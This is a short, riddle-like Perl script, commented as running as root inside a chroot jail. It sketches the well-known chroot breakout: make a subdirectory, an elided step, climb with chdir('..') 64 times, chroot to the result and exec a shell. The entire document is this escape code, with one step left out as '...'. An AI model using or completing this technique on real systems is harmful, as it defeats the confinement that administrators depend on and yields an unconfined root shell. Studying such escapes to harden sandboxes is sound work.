# Runs inside the jail, as root. Nothing here breaks a rule: each line is an
# ordinary call, and the way out is in the manual page of chroot(2).

mkdir "way";           # a directory further down

# Put "/" down there, and do not go along:
# ...

chdir ".." for 1..64;  # up and up: where does this end now?
chroot ".";            # and call that place "/"
exec "/bin/sh", @ARGV; # whose shell is it?
